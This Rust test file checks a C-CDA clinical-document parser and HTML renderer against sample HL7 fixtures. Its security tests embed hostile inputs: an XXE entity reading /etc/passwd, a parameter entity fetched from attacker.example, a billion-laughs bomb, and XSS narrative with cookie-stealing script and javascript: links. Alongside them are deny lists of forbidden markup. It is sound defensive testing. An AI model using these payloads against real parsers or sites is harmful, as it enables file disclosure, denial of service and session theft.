//! C-CDA parsing and rendering against real documents from HL7 and the ONC
//! test tool (`../shared/fixtures/ccda`), plus hostile inputs.

use hispd::documents::ccda::{is_ccda, parse, CcdaError, Limits};
use hispd::documents::render::render_html;
use std::path::PathBuf;

fn fixture_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/fixtures/ccda")
}

fn fixture(name: &str) -> Vec<u8> {
    let p = fixture_dir().join(name);
    std::fs::read(&p).unwrap_or_else(|e| panic!("{}: {e}", p.display()))
}

/// (file, title, a patient name, some section titles that must be rendered)
const EXPECTED: &[(&str, &str, &str, &[&str])] = &[
    (
        "hl7-ccd-1.xml",
        "Patient Chart Summary",
        "Eve Everywoman",
        &[
            "ALLERGIES AND ADVERSE REACTIONS",
            "IMMUNIZATIONS",
            "VITAL SIGNS",
        ],
    ),
    (
        "hl7-ccd-2.xml",
        "Summary of Patient Chart",
        "Isabella Jones",
        &["MEDICATIONS", "Vital Signs (Last Filed)"],
    ),
    (
        "hl7-discharge-summary.xml",
        "Community Health and Hospitals: Discharge Summary",
        "Isabella Jones",
        &["DISCHARGE DIAGNOSIS", "HOSPITAL COURSE"],
    ),
    (
        "hl7-referral-note.xml",
        "Referral Note",
        "Eve Everywoman",
        &["REASON FOR REFERRAL", "Physical Examination"],
    ),
    (
        "ett-ccda-ambulatory.xml",
        "Get Well Clinic: Health Summary",
        "Isabella Isa Jones",
        &[
            "ALLERGIES, ADVERSE REACTIONS, ALERTS",
            "Medications",
            "RESULTS",
        ],
    ),
    (
        "ett-toc-bad-stylesheet.xml",
        "Neighborhood Physician's Practice ToC document",
        "Alice Newman",
        &["ENCOUNTERS", "SOCIAL HISTORY"],
    ),
];

fn html_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\'', "&#39;")
}

#[test]
fn every_fixture_parses_and_renders() {
    let mut files: Vec<String> = std::fs::read_dir(fixture_dir())
        .expect("../shared/fixtures/ccda")
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".xml"))
        .collect();
    files.sort();
    assert!(files.len() >= 6, "{files:?}");
    for f in &files {
        let bytes = fixture(f);
        assert!(is_ccda(&bytes), "{f}: is_ccda");
        let doc = parse(&bytes, &Limits::default()).unwrap_or_else(|e| panic!("{f}: {e}"));
        assert!(!doc.sections.is_empty(), "{f}: no sections");
        assert!(!doc.patients.is_empty(), "{f}: no patient");
        let html = render_html(&doc);
        assert!(html.starts_with("<!DOCTYPE html>"), "{f}");
        assert!(
            html.contains("default-src 'none'; style-src 'unsafe-inline'"),
            "{f}: CSP"
        );
        for s in doc.all_sections() {
            if let Some(t) = &s.title {
                assert!(html.contains(&html_escape(t)), "{f}: section {t}");
            }
        }
        // Nothing that would load something: no remote resources at all.
        for bad in [
            "<script", "<img", "<iframe", "<link", "src=", "<object", " style=",
        ] {
            assert!(!html.contains(bad), "{f}: {bad}");
        }
        if let Some(ss) = &doc.stylesheet {
            assert!(!html.contains(ss.as_str()), "{f}: stylesheet {ss}");
        }
        let _ = serde_json::to_string(&doc).expect("serialises");
    }
    // Every fixture is covered by an expectation below.
    for (f, ..) in EXPECTED {
        assert!(files.iter().any(|x| x == f), "missing fixture {f}");
    }
}

#[test]
fn fixtures_have_expected_content() {
    for (f, title, patient, sections) in EXPECTED {
        let doc = parse(&fixture(f), &Limits::default()).unwrap_or_else(|e| panic!("{f}: {e}"));
        assert_eq!(doc.title.as_deref(), Some(*title), "{f}");
        assert!(
            doc.patients
                .iter()
                .any(|p| p.names.iter().any(|n| n == patient)),
            "{f}: {:?}",
            doc.patients
        );
        assert!(doc.patients[0].birth_time.is_some(), "{f}");
        assert_eq!(doc.patients[0].gender.as_deref(), Some("F"), "{f}");
        assert!(!doc.authors.is_empty(), "{f}");
        assert!(doc.custodian.is_some(), "{f}");
        let html = render_html(&doc);
        assert!(html.contains(&html_escape(title)), "{f}: title");
        assert!(html.contains(patient), "{f}: patient");
        assert!(html.contains("Female"), "{f}: gender");
        for s in *sections {
            assert!(
                html.contains(&format!(">{}</h2>", html_escape(s))),
                "{f}: section {s}"
            );
        }
    }
}

#[test]
fn ccd1_details() {
    let doc = parse(&fixture("hl7-ccd-1.xml"), &Limits::default()).unwrap();
    assert_eq!(doc.sections.len(), 15);
    let code = doc.code.as_ref().unwrap();
    assert_eq!(code.code.as_deref(), Some("34133-9"));
    assert_eq!(code.code_system.as_deref(), Some("2.16.840.1.113883.6.1"));
    assert_eq!(doc.effective_time.as_deref(), Some("201308151030-0800"));
    assert_eq!(doc.custodian.as_deref(), Some("Good Health HIE"));
    assert_eq!(doc.patients[0].birth_time.as_deref(), Some("19750501"));
    assert_eq!(
        doc.patients[0].ids[0].extension.as_deref(),
        Some("444222222")
    );
    let html = render_html(&doc);
    assert!(html.contains("2013-08-15 10:30 -08:00"), "effective time");
    assert!(html.contains("1975-05-01"), "birth date");
    assert!(html.contains("Summary of episode note"), "document type");
    assert!(html.contains("Patricia Patty Primary M.D."), "author");
    assert!(html.contains("444222222"), "patient id");
    assert!(html.contains("<td>Penicillin</td>"), "narrative table");
}

#[test]
fn bad_stylesheet_is_reported_never_used() {
    let doc = parse(&fixture("ett-toc-bad-stylesheet.xml"), &Limits::default()).unwrap();
    let href = "http://transport-testing.nist.gov:11080/CDA_Bad.xsl";
    assert_eq!(doc.stylesheet.as_deref(), Some(href));
    let html = render_html(&doc);
    assert!(!html.contains(href));
    assert!(!html.contains("CDA_Bad"));
    assert!(!html.contains("transport-testing"));
    assert!(!html.contains("xml-stylesheet"));
}

const HEADER: &str = r#"<ClinicalDocument xmlns="urn:hl7-org:v3">
  <title>Hostile</title>
  <recordTarget><patientRole><patient><name><given>Mallory</given><family>Evil</family></name></patient></patientRole></recordTarget>
  <component><structuredBody><component><section><title>Notes</title>"#;
const FOOTER: &str = "</section></component></structuredBody></component></ClinicalDocument>";

#[test]
fn xxe_is_refused() {
    let xml = format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>\n{HEADER}<text>&e;</text>{FOOTER}"
    );
    let err = parse(xml.as_bytes(), &Limits::default()).unwrap_err();
    assert!(matches!(err, CcdaError::DtdNotAllowed), "{err}");
    let msg = err.to_string();
    assert!(msg.contains("DTDs are not allowed"), "{msg}");
    assert!(!msg.contains("root:"), "{msg}");
    assert!(!is_ccda(xml.as_bytes()));

    // Lower-case / parameter-entity variants too.
    let xml = format!(
        "<!doctype x [<!ENTITY % p SYSTEM \"http://attacker.example/x.dtd\"> %p;]>{HEADER}{FOOTER}"
    );
    assert!(matches!(
        parse(xml.as_bytes(), &Limits::default()),
        Err(CcdaError::DtdNotAllowed)
    ));
}

#[test]
fn billion_laughs_is_refused() {
    let mut dtd = String::from("<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
    for i in 1..=9 {
        let prev = if i == 1 {
            "lol".to_string()
        } else {
            format!("lol{}", i - 1)
        };
        dtd.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">\n",
            format!("&{prev};").repeat(10)
        ));
    }
    dtd.push_str("]>\n");
    let xml = format!("<?xml version=\"1.0\"?>\n{dtd}{HEADER}<text>&lol9;</text>{FOOTER}");
    let started = std::time::Instant::now();
    let err = parse(xml.as_bytes(), &Limits::default()).unwrap_err();
    assert!(matches!(err, CcdaError::DtdNotAllowed), "{err}");
    assert!(started.elapsed() < std::time::Duration::from_secs(2));
}

#[test]
fn hostile_narrative_renders_inert() {
    let narrative = r#"<text>
      <paragraph>Hello <script>alert(document.cookie)</script>
        <a href="javascript:alert(1)">click me</a>
        <content onclick="steal()" styleCode="Bold" style="background:url(http://x/bg.png)">bold</content>
        <img src="http://x/pixel.gif"/>
        <iframe src="http://x/frame"></iframe>
        <linkHtml href="javascript:alert(2)">js link</linkHtml>
        <linkHtml href="https://example.org/info">web link</linkHtml>
        <renderMultiMedia referencedObject="MM1"/>
      </paragraph>
      <table border="1" onmouseover="x()" style="background:url(http://x/t.png)">
        <tbody><tr><td colspan="2" onclick="x()" style="color:red">cell &lt;script&gt;</td></tr></tbody>
      </table>
      <list listType="ordered"><item>first</item><item>second</item></list>
      <object data="http://x/o"></object><embed src="http://x/e"/>
      <style>body{background:url(http://x/s.png)}</style>
    </text>"#;
    let xml = format!("{HEADER}{narrative}{FOOTER}");
    let doc = parse(xml.as_bytes(), &Limits::default()).unwrap();
    let html = render_html(&doc);
    for bad in [
        "<script",
        "javascript:",
        "onclick",
        "onmouseover",
        "<iframe",
        "http://x",
        "<img",
        "<object",
        "<embed",
        "<a href=\"javascript",
        "background:url",
    ] {
        assert!(!html.contains(bad), "found {bad:?} in\n{html}");
    }
    // The harmless parts survive, as text or whitelisted markup.
    assert!(html.contains("click me"));
    assert!(html.contains("<b>bold</b>"));
    assert!(html.contains("<td colspan=\"2\">cell &lt;script&gt;</td>"));
    assert!(html.contains("<ol><li>first</li><li>second</li></ol>"));
    assert!(html.contains("web link [link: https://example.org/info]"));
    assert!(html.contains("[multimedia omitted]"));
    assert!(html.contains("Mallory Evil"));
    // The only <a> elements are the page's own table of contents (none here:
    // one section) — so no anchor at all.
    assert!(!html.contains("<a "));
}

#[test]
fn non_ccda_is_refused() {
    let xml = br#"<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>x</title></feed>"#;
    assert!(!is_ccda(xml));
    let err = parse(xml, &Limits::default()).unwrap_err();
    assert!(matches!(err, CcdaError::NotCcda(_)));
    assert!(
        err.to_string().starts_with("not a C-CDA: root element is"),
        "{err}"
    );
    assert!(err.to_string().contains("feed"), "{err}");

    let err = parse(b"%PDF-1.7 not xml", &Limits::default()).unwrap_err();
    assert!(err.to_string().starts_with("not XML"), "{err}");
}

#[test]
fn limits_are_enforced() {
    let bytes = fixture("hl7-ccd-1.xml");
    let small = Limits {
        max_bytes: 1024,
        ..Limits::default()
    };
    let err = parse(&bytes, &small).unwrap_err();
    assert_eq!(
        err.to_string(),
        format!("document too large ({} bytes, limit 1024)", bytes.len())
    );
    let shallow = Limits {
        max_depth: 5,
        ..Limits::default()
    };
    let err = parse(&bytes, &shallow).unwrap_err();
    assert_eq!(err.to_string(), "too deeply nested (limit 5)");

    // Deep nesting far past the limit does not overflow the stack.
    let n = 100_000;
    let xml = format!(
        "{HEADER}<text>{}{}</text>{FOOTER}",
        "<content>".repeat(n),
        "</content>".repeat(n)
    );
    let err = parse(xml.as_bytes(), &Limits::default()).unwrap_err();
    assert!(matches!(err, CcdaError::TooDeep { limit: 256 }), "{err}");
}
